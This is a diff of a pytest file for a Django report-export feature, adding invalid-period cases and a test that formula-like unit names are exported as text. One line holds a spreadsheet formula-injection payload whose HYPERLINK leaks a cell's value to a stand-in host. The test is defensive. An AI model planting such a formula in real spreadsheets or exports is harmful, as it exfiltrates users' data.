@@ -101,7 +101,23 @@ def test_an_official_heading_no_unit_gets_404(client, olga, campaign, reports):
     assert _export(client, olga, campaign, "2026").status_code == 404
 
 
-@pytest.mark.parametrize("period", ["2026-13", "2025-12", "2027", "tháng 3", "2026-3"])
+@pytest.mark.parametrize(
+    "period",
+    # Years and months no date can hold, and full-width digits ("２０２６-０３" is not typed by the page's links).
+    [
+        "2026-13",
+        "2025-12",
+        "2027",
+        "tháng 3",
+        "2026-3",
+        "0000-01",
+        "0000",
+        "0001-00",
+        "9999-99",
+        "２０２６-０３",
+        "２０２６",
+    ],
+)
 def test_bad_period_is_explained_in_vietnamese(client, sam, campaign, period):
     response = _export(client, sam, campaign, period)
     assert response.status_code == 400
@@ -118,3 +134,14 @@ def test_export_query_count_does_not_grow_with_rows(client, sam, campaign, repor
     with django_assert_max_num_queries(8):
         response = client.get(url, {"ky": "2026"})
     assert len(_rows(response)) == (4 + 18) * 15
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, sam, campaign, reports):
+    # A13: every text of the export is a string cell (core.table_export.put), never a formula.
+    typed = '=HYPERLINK("http://x?leak="&B3,"bấm")'
+    Unit.objects.filter(code="VP").update(short_name=typed)
+    response = _export(client, sam, campaign, "2026-03")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=3) if row[0].value == "VP"]
+    assert cells and all(cell.data_type == "s" and cell.value == typed for cell in cells)
